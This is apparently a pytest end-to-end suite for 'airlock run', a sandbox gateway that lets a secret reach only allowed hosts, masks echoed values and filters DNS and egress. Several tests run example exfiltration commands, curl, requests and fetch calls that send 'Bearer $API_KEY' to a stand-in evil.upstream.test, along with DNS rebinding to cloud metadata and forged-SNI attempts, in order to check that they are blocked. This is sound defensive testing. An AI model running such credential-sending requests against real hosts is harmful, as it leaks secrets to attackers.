"""`airlock run` with its gateway and DNS: real clients inside the sandbox call a real HTTPS
server with the placeholder; only the allowed host receives the value.

  sandbox ── its gateway (in the `airlock run` process, upstream sockets in the host netns)
      host netns HOST_IP ──veth── UP_IP upstream netns (nginx, TLS, test CA)
  DNS: the sandbox's forwarder asks a dnsmasq on the host's loopback (--dns-server), which
  answers api.upstream.test and evil.upstream.test with UP_IP (alias.upstream.test is a
  CNAME to api.upstream.test; rebind.upstream.test and meta.upstream.test point into private and
  metadata space).

Assertions are made on what the upstream received (nginx's JSON access log). The fake value is
checked to be absent from everything the sandbox and airlock print; no assertion prints it.
"""
import json
import os
import textwrap
import time

import pytest

from netlab import Lab, airlock_run, TAG, assert_absent, assert_equal_secret, fake_value, link_addresses, sh, wait_listening

AIRLOCK = os.environ.get("AIRLOCK_BIN", "airlock")
PY = "/usr/bin/python3"
UPNS = f"alsbu{TAG}"
HOST_IF, UP_IF = f"alsbh{TAG}", f"alsbp{TAG}"
HOST_IP, UP_IP, HOST_IP6, UP_IP6 = link_addresses()  # this run's own /30 and /64 on the host
ALLOWED, EVIL = "api.upstream.test", "evil.upstream.test"
ALLOWED6 = "api6.upstream.test"  # AAAA only
ALIAS = "alias.upstream.test"     # CNAME to ALLOWED
REBIND, META = "rebind.upstream.test", "meta.upstream.test"  # answers in private / metadata space
# The upstream lives in documentation space, which the default policy (public addresses only)
# denies: the tests allow it by address unless they say otherwise.
UPSTREAM_EGRESS = (f"allow@{UP_IP}:tcp:443", f"allow@[{UP_IP6}]:tcp:443")


class World:
    def __init__(self, lab):
        self.lab = lab
        self.path = lab.path
        os.chmod(lab.dir, 0o755)
        self.value = fake_value()
        self.upstream = None  # nginx's access log
        self.dns_port = None
        self.configs = 0

    def setup(self):
        self.lab.upstream_link(UPNS, HOST_IF, UP_IF, HOST_IP, UP_IP)
        sh("ip", "addr", "add", f"{HOST_IP6}/64", "dev", HOST_IF, "nodad")
        sh("ip", "-n", UPNS, "addr", "add", f"{UP_IP6}/64", "dev", UP_IF, "nodad")
        self.lab.ca("ca")
        self.lab.leaf("server", "ca", f"DNS:{ALLOWED},DNS:{EVIL},DNS:{ALLOWED6},DNS:{ALIAS}")
        self.make_repo()
        self.start_backend()
        self.start_nginx()
        self.dns_port = self.lab.dnsmasq([
            f"--host-record={ALLOWED},{UP_IP}", f"--address=/{EVIL}/{UP_IP}", f"--address=/{ALLOWED6}/{UP_IP6}",
            f"--cname={ALIAS},{ALLOWED}", f"--address=/{REBIND}/10.1.2.3", f"--address=/{META}/169.254.169.254"])

    def make_repo(self):
        """A bare repository served over dumb HTTP (static files) by nginx."""
        work, bare = self.path("work"), self.path("repo.git")
        sh("git", "init", "-q", "-b", "main", work)
        with open(os.path.join(work, "README"), "w") as f:
            f.write("cloned through airlock\n")
        sh("git", "-C", work, "add", "README")
        sh("git", "-C", work, "-c", "user.name=e2e", "-c", "user.email=e2e@example.invalid",
           "commit", "-q", "-m", "init")
        sh("git", "clone", "-q", "--bare", work, bare)
        sh("git", "-C", bare, "update-server-info")
        sh("chmod", "-R", "a+rX", bare)

    def start_nginx(self):
        d = self.lab.dir
        self.upstream = self.lab.nginx(UPNS, {
            "sni": "$ssl_server_name", "host": "$host", "uri": "$request_uri", "authorization": "$http_authorization",
            "ae": "$http_accept_encoding",
        }, f"""\
            gzip on; gzip_types text/plain; gzip_min_length 1;
            server {{
              listen {UP_IP}:443 ssl; listen [{UP_IP6}]:443 ssl;
              ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
              location / {{ echo "ok"; }}
              location /echo/ {{ echo "received: $http_authorization"; }}
              location /repo.git/ {{ root {d}; }}
              location /dec/ {{ proxy_pass http://127.0.0.1:18081; proxy_http_version 1.1; proxy_buffering off; }}
            }}
            """)

    def start_backend(self):
        """nginx's /dec/ backend (plain HTTP on the upstream's loopback): it misbehaves the way issue
        14 describes. /dec/<coding> echoes Authorization compressed whatever the request asked;
        /dec/split and /dec/bytes echo it chunked with a chunk boundary inside the value (nginx,
        unbuffered, sends each piece as its own chunk); POST /dec/body reads a gzip body and says
        whether the value arrived in it (never the value)."""
        script = self.lab.write("dec_backend.py", textwrap.dedent("""\
            import brotli, gzip, os, time, zlib
            from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
            VALUE = os.environ["AIRLOCK_E2E_SB_VALUE"].encode()
            CODERS = {"gzip": gzip.compress, "deflate": zlib.compress, "br": brotli.compress}
            class H(BaseHTTPRequestHandler):
                protocol_version = "HTTP/1.1"
                def log_message(self, *a):
                    pass
                def do_GET(self):
                    name = self.path.rsplit("/", 1)[1]
                    echo = b"received: " + self.headers.get("Authorization", "").encode() + b"\\n"
                    self.send_response(200)
                    self.send_header("Content-Type", "application/octet-stream")
                    if name in CODERS:
                        body = CODERS[name](echo)
                        self.send_header("Content-Encoding", name)
                        self.send_header("Content-Length", str(len(body)))
                        self.end_headers()
                        self.wfile.write(body)
                        return
                    self.send_header("Transfer-Encoding", "chunked")
                    self.end_headers()
                    cut = len(echo) - len(VALUE) // 2
                    pieces = [echo[:cut], echo[cut:]] if name == "split" else [echo[i:i + 1] for i in range(len(echo))]
                    for p in pieces:
                        self.wfile.write(b"%x\\r\\n%s\\r\\n" % (len(p), p))
                        self.wfile.flush()
                        time.sleep(0.05 if name == "split" else 0.005)
                    self.wfile.write(b"0\\r\\n\\r\\n")
                def do_POST(self):
                    raw = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                    body = gzip.decompress(raw) if self.headers.get("Content-Encoding") == "gzip" else raw
                    out = b"body_value=%d placeholder=%d json=%d\\n" % (VALUE in body, b"$MSB_" in body or b"$API_KEY" in body,
                                                                       body.startswith(b"{"))
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(out)))
                    self.end_headers()
                    self.wfile.write(out)
            ThreadingHTTPServer(("127.0.0.1", 18081), H).serve_forever()
            """))
        self.lab.start(["ip", "netns", "exec", UPNS, PY, script], "dec_backend.stderr",
                       env=dict(os.environ, AIRLOCK_E2E_SB_VALUE=self.value))
        wait_listening(UPNS, ["127.0.0.1:18081"], "the /dec/ backend listening")

    def write_config(self, action, egress):
        self.configs += 1
        return self.lab.write(f"airlock-{self.configs}.toml", textwrap.dedent(f"""\
            [network]
            on_secret_violation = "{action}"
            egress = {json.dumps(list(egress))}
            [[network.upstream_ca]]
            file = "{self.path('ca.pem')}"

            [[secret]]
            env = "API_KEY"
            value_from = "env:AIRLOCK_E2E_SB_API_KEY"
            allow_hosts = ["{ALLOWED}", "{ALLOWED6}", "{ALIAS}"]
            inject = {{ headers = true, body = true }}

            [gateway]
            home = "{self.path('home')}"
            audit_log = "{self.path('audit.jsonl')}"
            """))

    def run(self, cmd, action="block-and-log", timeout=90, args=(), egress=UPSTREAM_EGRESS):
        """airlock run; its output (the sandbox's and airlock's) must not hold the value."""
        return airlock_run(self.value, "AIRLOCK_E2E_SB_API_KEY", self.path("home"), self.write_config(action, egress),
                           self.dns_port, cmd, timeout, args=args)

    def audit(self):
        """The audit records of every run so far (checked to be free of the value)."""
        with open(self.path("audit.jsonl")) as f:
            text = f.read()
        assert_absent(self.value, text, "the audit log")
        return [json.loads(line) for line in text.splitlines()]

    def assert_bearer_value(self, rec):
        """The upstream received `Authorization: Bearer <the value>`."""
        __tracebackhide__ = True
        assert_equal_secret(rec["authorization"], "Bearer " + self.value, "the Authorization the upstream received")


@pytest.fixture(scope="module")
def world():
    with Lab("airlock-sbgw-") as lab:
        w = World(lab)
        w.setup()
        yield w


def url(host, marker):
    return f"https://{host}/{marker}"


def test_curl_sends_the_value_only_to_the_allowed_host(world):
    proc = world.run(["/bin/sh", "-c",
                      f'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(ALLOWED, "curl-ok")};'
                      f'echo "rc=$?"; curl -sS -m 20 -H "Authorization: Bearer $API_KEY" '
                      f'{url(EVIL, "curl-evil")}; echo "rc=$?"'])
    assert proc.returncode == 0, proc.stderr
    assert world.upstream.count("curl-ok") == 1, proc.stdout + proc.stderr
    (ok,) = world.upstream.wait_received("curl-ok")
    world.assert_bearer_value(ok)
    assert ok["sni"] == ALLOWED
    assert proc.stdout.startswith("ok\nrc=0\n")
    world.upstream.assert_not_received("curl-evil")
    assert proc.stdout.rstrip().endswith("rc=35") or "rc=56" in proc.stdout or "rc=52" in proc.stdout, proc.stdout
    assert "API_KEY" in proc.stderr  # block-and-log: a host-side warning naming the secret


def test_a_response_that_echoes_the_value_is_scrubbed(world):
    # The upstream echoes the Authorization it received (the real value): the guest gets it
    # masked, same length; run() checks that the value is nowhere in the output.
    proc = world.run(["/bin/sh", "-c",
                      f'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(ALLOWED, "echo/x")}'])
    (rec,) = world.upstream.wait_received("echo/x")
    world.assert_bearer_value(rec)
    assert proc.returncode == 0, proc.stderr
    masked = "received: Bearer " + "*" * len(world.value) + "\n"
    assert proc.stdout == masked
    assert "a response echoed a secret value; masked" in proc.stderr


def test_a_compressed_echo_cannot_carry_the_value_past_the_scrubber(world):
    # gzip would hide the value from the scrubber: a host that may receive a value is asked for
    # identity responses, whatever the client accepts.
    proc = world.run(["/bin/sh", "-c", f'curl -sS -m 20 --compressed -H "Authorization: Bearer $API_KEY" '
                                       f'{url(ALLOWED, "echo/gz")}; curl -sS -m 20 --compressed -o /dev/null '
                                       f'-w "%{{content_type}} %{{size_download}}\\n" {url(EVIL, "echo/evil-gz")}'])
    assert proc.returncode == 0, proc.stderr
    (rec,) = world.upstream.wait_received("echo/gz")
    assert rec["ae"] == "identity"
    masked = "received: Bearer " + "*" * len(world.value) + "\n"
    assert proc.stdout.startswith(masked)
    (other,) = world.upstream.wait_received("echo/evil-gz")  # a host no secret allows keeps its compression
    assert other["ae"].startswith("deflate, gzip") or "gzip" in other["ae"]


# Issue 14, inside `airlock run`: before, each compressed echo was blocked (python requests saw a
# reset) and each chunk-split echo reached the guest whole.
def test_compressed_and_chunk_split_echoes_are_masked_inside_airlock_run(world):
    script = textwrap.dedent(f"""
        import os, requests
        s = requests.Session()
        h = {{"Authorization": "Bearer " + os.environ["API_KEY"]}}
        for name in ("gzip", "deflate", "br", "split", "bytes"):
            try:
                r = s.get("{url(ALLOWED, 'dec/')}" + name, headers=h, timeout=20)
                print(name, r.status_code, r.headers.get("content-encoding"), r.text.strip())
            except requests.exceptions.RequestException as e:
                print(name, "failed", type(e).__name__)
    """)
    proc = world.run([PY, "-c", script])
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.strip().splitlines()
    assert len(lines) == 5, proc.stdout
    stars = "*" * len(world.value)
    for line, name in zip(lines[:3], ("gzip", "deflate", "br")):
        assert line == f"{name} 200 None received: Bearer {stars}", line
    for line, name in zip(lines[3:], ("split", "bytes")):
        prefix = f"{name} 200 None received: Bearer "
        assert line.startswith(prefix) and len(line) == len(prefix) + len(world.value), line
        # Pauses between chunks let a held start of at most 3 bytes go before the rest arrives.
        assert line[len(prefix):].count("*") >= len(world.value) - 3, line
    for name in ("gzip", "deflate", "br", "split", "bytes"):
        (rec,) = world.upstream.wait_received(f"dec/{name}")
        world.assert_bearer_value(rec)
        assert rec["ae"] == "identity", rec["ae"]


def test_a_gzip_json_request_body_is_substituted_inside_airlock_run(world):
    script = textwrap.dedent(f"""
        import gzip, json, os, requests
        body = gzip.compress(json.dumps({{"key": os.environ["API_KEY"]}}).encode())
        r = requests.post("{url(ALLOWED, 'dec/body')}", data=body, timeout=20,
                          headers={{"Content-Encoding": "gzip", "Content-Type": "application/json"}})
        print(r.status_code, r.text.strip())
    """)
    proc = world.run([PY, "-c", script])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "200 body_value=1 placeholder=0 json=1", proc.stdout


def test_python_requests_and_urllib(world):
    script = textwrap.dedent(f"""
        import os, urllib.request, requests
        h = {{"Authorization": "Bearer " + os.environ["API_KEY"]}}
        r = requests.get("{url(ALLOWED, 'requests-ok')}", headers=h, timeout=20)
        print("requests", r.status_code)
        req = urllib.request.Request("{url(ALLOWED, 'urllib-ok')}", headers=h)
        with urllib.request.urlopen(req, timeout=20) as resp:
            print("urllib", resp.status)
        try:
            requests.get("{url(EVIL, 'requests-evil')}", headers=h, timeout=20)
            print("evil answered")
        except requests.exceptions.RequestException:
            print("evil blocked")
        """)
    proc = world.run([PY, "-c", script])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "requests 200\nurllib 200\nevil blocked\n"
    for marker in ("requests-ok", "urllib-ok"):
        (rec,) = world.upstream.wait_received(marker)
        world.assert_bearer_value(rec)
    world.upstream.assert_not_received("requests-evil")


def test_node_fetch_and_https(world):
    script = textwrap.dedent(f"""
        const https = require("https");
        const h = {{ Authorization: "Bearer " + process.env.API_KEY }};
        (async () => {{
          const r = await fetch("{url(ALLOWED, 'fetch-ok')}", {{ headers: h }});
          console.log("fetch", r.status);
          await new Promise((resolve, reject) => {{
            https.get("{url(ALLOWED, 'https-ok')}", {{ headers: h }}, (res) => {{
              console.log("https", res.statusCode); res.resume(); res.on("end", resolve);
            }}).on("error", reject);
          }});
          try {{ await fetch("{url(EVIL, 'fetch-evil')}", {{ headers: h }}); console.log("evil answered"); }}
          catch (e) {{ console.log("evil blocked"); }}
        }})();
        """)
    proc = world.run(["node", "-e", script])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "fetch 200\nhttps 200\nevil blocked\n"
    for marker in ("fetch-ok", "https-ok"):
        (rec,) = world.upstream.wait_received(marker)
        world.assert_bearer_value(rec)
    world.upstream.assert_not_received("fetch-evil")


def test_ipv6_upstream_through_the_guest_ula_link(world):
    proc = world.run(["/bin/sh", "-c",
                      f'curl -6 -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(ALLOWED6, "v6-ok")}'])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "ok\n"
    (rec,) = world.upstream.wait_received("v6-ok")
    world.assert_bearer_value(rec)


def test_git_clone_over_https(world):
    proc = world.run(["/bin/sh", "-c",
                      'git -c http.extraHeader="Authorization: Bearer $API_KEY" clone -q '
                      f'https://{ALLOWED}/repo.git /tmp/r && cat /tmp/r/README'])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "cloned through airlock\n"
    records = world.upstream.received("/repo.git/")
    assert records, "the upstream saw no git request"
    for rec in records:
        world.assert_bearer_value(rec)


def test_hard_coded_ip_with_forged_sni_gets_no_value(world):
    # No DNS lookup: the address is not pinned for the allowed name (gate 2).
    proc = world.run(["/bin/sh", "-c",
                      f'curl -sS -m 20 --resolve {ALLOWED}:443:{UP_IP} '
                      f'-H "Authorization: Bearer $API_KEY" {url(ALLOWED, "forged-sni")}; echo "rc=$?"'])
    assert proc.returncode == 0, proc.stderr
    for rec in world.upstream.received("forged-sni"):
        assert_absent(world.value, rec["authorization"], "the Authorization the upstream received")


def test_block_and_terminate_ends_the_sandbox(world):
    start = time.monotonic()
    proc = world.run(["/bin/sh", "-c",
                      f'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(EVIL, "terminate")};'
                      "echo still-running; sleep 60; echo not-reached"],
                     action="block-and-terminate")
    assert proc.returncode == 125, proc.stderr
    assert "airlock: sandbox terminated: " in proc.stderr
    assert "not-reached" not in proc.stdout
    assert time.monotonic() - start < 30
    world.upstream.assert_not_received("terminate")


def test_dns_to_any_resolver_address_ends_at_the_forwarder(world):
    # A hand-made query sent to public resolvers, over UDP and TCP: the answer is the one only
    # the sandbox's forwarder (asking the test's dnsmasq) can give.
    script = textwrap.dedent(f"""
        import socket, struct
        q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
        q += b"".join(bytes([len(p)]) + p.encode() for p in "{ALLOWED}".split(".")) + b"\\0"
        q += struct.pack(">HH", 1, 1)
        for server in ("8.8.8.8", "1.1.1.1"):
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
            u.sendto(q, (server, 53))
            print(server, "udp", socket.inet_ntoa(u.recvfrom(512)[0][-4:]))
            t = socket.create_connection((server, 53), timeout=5)
            t.sendall(struct.pack(">H", len(q)) + q)
            n = struct.unpack(">H", t.recv(2))[0]
            data = b""
            while len(data) < n:
                data += t.recv(n - len(data))
            print(server, "tcp", socket.inet_ntoa(data[-4:]))
        """)
    proc = world.run([PY, "-c", script])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "".join(f"{s} {t} {UP_IP}\n" for s in ("8.8.8.8", "1.1.1.1") for t in ("udp", "tcp"))


def test_dns_answers_come_from_the_forwarder(world):
    proc = world.run(["/bin/sh", "-c", f"getent hosts {ALLOWED}; getent hosts {EVIL}"])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == [UP_IP, ALLOWED, UP_IP, EVIL]


def curl(host, marker, extra=""):
    """A shell line: curl with the placeholder, then the exit status."""
    return f'curl -sS -m 20 {extra} -H "Authorization: Bearer $API_KEY" {url(host, marker)}; echo "rc=$?"'


def test_default_policy_denies_documentation_space(world):
    # No egress rule: 203.0.113.0/24 is not public, so the connection is reset before any upstream.
    proc = world.run(["/bin/sh", "-c", curl(ALLOWED, "default-deny")], egress=())
    assert proc.returncode == 0, proc.stderr
    assert "rc=0" not in proc.stdout
    world.upstream.assert_not_received("default-deny")
    assert f"to {UP_IP}:443 (SNI {ALLOWED}) denied: no rule allows it" in proc.stderr
    assert any(r["event"] == "connection" and r["decision"] == "denied" and r["sni"] == ALLOWED and
               r["detail"] == "no rule allows it" for r in world.audit())


def test_domain_rule_allows_only_its_name_after_a_lookup(world):
    # First the right name without a lookup (nothing pinned yet), then with one, then another
    # name for the same address.
    egress = (f"allow@{ALLOWED}:tcp:443",)
    lines = [curl(ALLOWED, "dom-nolookup", f"--resolve {ALLOWED}:443:{UP_IP}"), curl(ALLOWED, "dom-ok"),
             curl(EVIL, "dom-evil")]
    proc = world.run(["/bin/sh", "-c", ";".join(lines)], egress=egress)
    assert proc.returncode == 0, proc.stderr
    world.upstream.assert_not_received("dom-nolookup")
    (ok,) = world.upstream.wait_received("dom-ok")
    world.assert_bearer_value(ok)
    world.upstream.assert_not_received("dom-evil")
    assert proc.stdout.count("rc=0") == 1 and "ok\nrc=0\n" in proc.stdout
    assert proc.stderr.count(f"(SNI {ALLOWED}) denied: no rule allows it") == 1
    assert f"(SNI {EVIL}) denied: no rule allows it" in proc.stderr


def test_a_cname_chain_pins_the_alias_and_carries_the_value(world):
    proc = world.run(["/bin/sh", "-c", curl(ALIAS, "cname")], egress=(f"allow@{ALIAS}:tcp:443",))
    assert proc.returncode == 0, proc.stderr
    (rec,) = world.upstream.wait_received("cname")
    assert rec["sni"] == ALIAS
    world.assert_bearer_value(rec)


def test_address_rules_are_exact_about_ports(world):
    proc = world.run(["/bin/sh", "-c", curl(ALLOWED, "port-deny")], egress=(f"allow@{UP_IP}:tcp:8443",))
    world.upstream.assert_not_received("port-deny")
    assert "rc=0" not in proc.stdout
    assert f"to {UP_IP}:443 (SNI {ALLOWED}) denied: no rule allows it" in proc.stderr


def test_a_deny_rule_before_an_allow_wins(world):
    egress = (f"deny@{EVIL}", f"allow@{UP_IP}:tcp:443")
    proc = world.run(["/bin/sh", "-c", curl(ALLOWED, "order-ok") + ";" + curl(EVIL, "order-evil", f"--resolve {EVIL}:443:{UP_IP}")],
                     egress=egress)
    assert world.upstream.count("order-ok") == 1
    world.upstream.assert_not_received("order-evil")
    assert f"(SNI {EVIL}) denied: deny@{EVIL}" in proc.stderr


def test_dns_over_tls_is_refused_even_to_an_allowed_address(world):
    proc = world.run(["/bin/sh", "-c", f"curl -sS -m 10 https://{UP_IP}:853/; echo rc=$?"], egress=(f"allow@{UP_IP}",))
    assert "rc=0" not in proc.stdout
    assert "denied: DNS over TLS (TCP 853) would bypass the sandbox's DNS" in proc.stderr


def test_denied_names_and_rebinding_answers_are_nxdomain(world):
    script = textwrap.dedent(f"""
        import socket
        for name in ("{ALLOWED}", "{EVIL}", "{REBIND}", "{META}"):
            try:
                print(name, socket.gethostbyname(name))
            except socket.gaierror:
                print(name, "nxdomain")
        """)
    proc = world.run([PY, "-c", script], egress=(f"deny@{EVIL}",) + UPSTREAM_EGRESS)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [f"{ALLOWED} {UP_IP}", f"{EVIL} nxdomain", f"{REBIND} nxdomain",
                                        f"{META} nxdomain"]
    # Each refusal is warned about and audited (a resolver may ask more than once).
    assert f"DNS {EVIL}: NXDOMAIN, denied by the egress policy" in proc.stderr
    assert f"DNS {REBIND}: NXDOMAIN, the answer pointed into private" in proc.stderr
    refused = {(r["name"], r["reason"]) for r in world.audit() if r["event"] == "dns_refused"}
    assert {(EVIL, "denied-domain"), (REBIND, "rebinding"), (META, "rebinding")} <= refused
    # An explicit address rule lets that private answer through (and only that one).
    proc = world.run([PY, "-c", script], egress=("allow@10.1.2.3:tcp:443",) + UPSTREAM_EGRESS)
    assert proc.stdout.splitlines() == [f"{ALLOWED} {UP_IP}", f"{EVIL} {UP_IP}", f"{REBIND} 10.1.2.3",
                                        f"{META} nxdomain"]


def test_sighup_rotates_a_value_for_the_running_sandbox(world):
    """SIGHUP to `airlock run --config` reads the values again (not forwarded to the guest); the
    guest's placeholders cannot change, so a reload that adds a secret is refused and the running
    ones stay. The guest loops requests (fresh connections) throughout: none fails."""
    import signal
    import subprocess
    from netlab import wait_for
    old, new, added = fake_value(), fake_value(), fake_value()
    value = world.lab.write("rot.value", old + "\n")
    base = textwrap.dedent(f"""\
        [network]
        egress = {json.dumps(list(UPSTREAM_EGRESS))}
        [[network.upstream_ca]]
        file = "{world.path('ca.pem')}"
        [[secret]]
        env = "API_KEY"
        value_from = "file:{value}"
        allow_hosts = ["{ALLOWED}"]
        [gateway]
        home = "{world.path('home')}"
        """)
    config = world.lab.write("rot.toml", base)
    guest = ('i=0; while [ $i -lt 120 ]; do curl -sS -m 20 -H "Authorization: Bearer $API_KEY" '
             f'{url(ALLOWED, "rot")}/$i || echo "request $i failed"; i=$((i+1)); sleep 0.05; done')
    out_path, err_path = world.path("rot.stdout"), world.path("rot.stderr")
    with open(out_path, "w") as out, open(err_path, "w") as err:
        proc = subprocess.Popen([AIRLOCK, "run", "--config", config, "--dns-server", f"127.0.0.1:{world.dns_port}",
                                 "--", "/bin/sh", "-c", guest], stdout=out, stderr=err,
                                env=dict(os.environ, AIRLOCK_HOME=world.path("home")))
    try:
        errors = lambda: open(err_path).read()
        wait_for(lambda: world.upstream.count("/rot/") >= 5, "requests before the reload", timeout=60)
        tmp = world.lab.write("rot.value.tmp", new + "\n")
        os.rename(tmp, value)
        proc.send_signal(signal.SIGHUP)
        wait_for(lambda: "airlock: reloaded" in errors(), "the reload", timeout=20)
        confirmed = world.upstream.count("/rot/")
        # Adding a secret: refused, the running ones stay.
        added_file = world.lab.write("rot-added.value", added + "\n")
        world.lab.write("rot.toml", base + textwrap.dedent(f"""\
            [[secret]]
            env = "OTHER_KEY"
            value_from = "file:{added_file}"
            allow_hosts = ["{ALLOWED}"]
            """))
        proc.send_signal(signal.SIGHUP)
        wait_for(lambda: "airlock: reload failed" in errors(), "the refused reload", timeout=20)
        assert proc.wait(timeout=90) == 0, errors()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    stdout, stderr = open(out_path).read(), open(err_path).read()
    for v in (old, new, added):
        assert_absent(v, stdout + stderr, "airlock run's output")
    assert "failed" not in stdout and stdout == "ok\n" * 120, stderr
    assert "restart `airlock run` to add or remove a secret" in stderr
    records = {int(r["uri"].rsplit("/", 1)[1]): r for r in world.upstream.received("/rot/")}
    assert len(records) == 120
    for i, r in records.items():
        if i > confirmed:
            assert_equal_secret(r["authorization"], "Bearer " + new, f"request {i}, after the reload")
        elif i < 5:
            assert_equal_secret(r["authorization"], "Bearer " + old, f"request {i}, before the reload")
